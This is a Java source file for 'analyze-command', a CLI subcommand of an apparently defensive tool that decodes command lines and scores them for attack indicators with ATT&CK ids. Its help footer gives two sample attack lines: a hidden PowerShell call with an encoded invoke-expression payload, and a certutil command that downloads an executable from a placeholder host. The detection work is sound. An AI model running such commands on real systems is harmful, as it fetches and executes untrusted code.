package seldom.cli;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;
import java.util.concurrent.Callable;
import org.jspecify.annotations.Nullable;
import picocli.CommandLine.Command;
import picocli.CommandLine.Option;
import picocli.CommandLine.Parameters;
import seldom.analytics.commandline.CommandAnalyser;
import seldom.analytics.content.Content;
import seldom.analytics.content.Problems;
import seldom.model.command.CommandAnalysis;
import seldom.report.CommandLines;
import seldom.report.CommandText;

/// `seldom analyze-command`: what a command line hides and what that says.
@Command(
    name = "analyze-command",
    mixinStandardHelpOptions = true,
    description = {
      "Decodes a command line and says what in it speaks for an attack.",
      "Shows every decoded layer, what was found where with ATT&CK ids, indicators, flags, and a "
          + "score from 0 to 100 with its band. The form of --json is "
          + "content/schemas/command-1.schema.json."
    },
    footerHeading = "%nExamples:%n",
    footer = {
      "  seldom analyze-command 'powershell -nop -w hidden -enc SQBFAFgA...'",
      "  seldom analyze-command --json 'certutil -urlcache -f http://a.example/x x.exe'",
      "  seldom analyze-command --json - < lines.txt",
      "",
      "Exit codes: 0 done, 2 usage."
    })
final class AnalyzeCommand implements Callable<Integer> {
  @Option(names = "--json", description = "Print one JSON object a command line.")
  private boolean json;

  @Option(
      names = "--legacy",
      description = "Score as the published analysis of generation 2 does, for comparison.")
  private boolean legacy;

  @Option(
      names = "--content",
      paramLabel = "DIR",
      description = "The content folder; default: the one shipped.")
  private @Nullable Path folder;

  @Parameters(
      index = "0",
      paramLabel = "COMMAND",
      description = "The command line, or - to read one a line from standard input.")
  private String command = "";

  private final PrintStream out = new PrintStream(System.out, false, StandardCharsets.UTF_8);

  @Override
  public Integer call() throws IOException {
    CommandAnalyser analyser = analyser();
    if (command.equals("-")) {
      try (BufferedReader lines =
          new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8))) {
        for (String line = lines.readLine(); line != null; line = lines.readLine()) {
          print(analyser, line);
        }
      }
    } else {
      print(analyser, command);
    }
    out.flush();
    return 0;
  }

  private CommandAnalyser analyser() {
    Map<String, String> texts;
    try {
      Path given = folder;
      texts = ContentFolder.read(given == null ? ContentFolder.standard() : given);
    } catch (IOException e) {
      throw new UsageException(String.valueOf(e.getMessage()));
    }
    Problems problems = new Problems();
    CommandAnalyser analyser = CommandAnalyser.read(Content.read(texts, problems), problems);
    if (problems.hasErrors()) {
      throw new UsageException("the content has mistakes:\n" + problems);
    }
    return analyser;
  }

  private void print(CommandAnalyser analyser, String line) {
    CommandAnalysis analysis = legacy ? analyser.legacy(line) : analyser.analyse(line);
    if (json) {
      out.println(CommandLines.json(analysis, legacy));
    } else {
      out.println(CommandText.text(analysis));
    }
  }
}
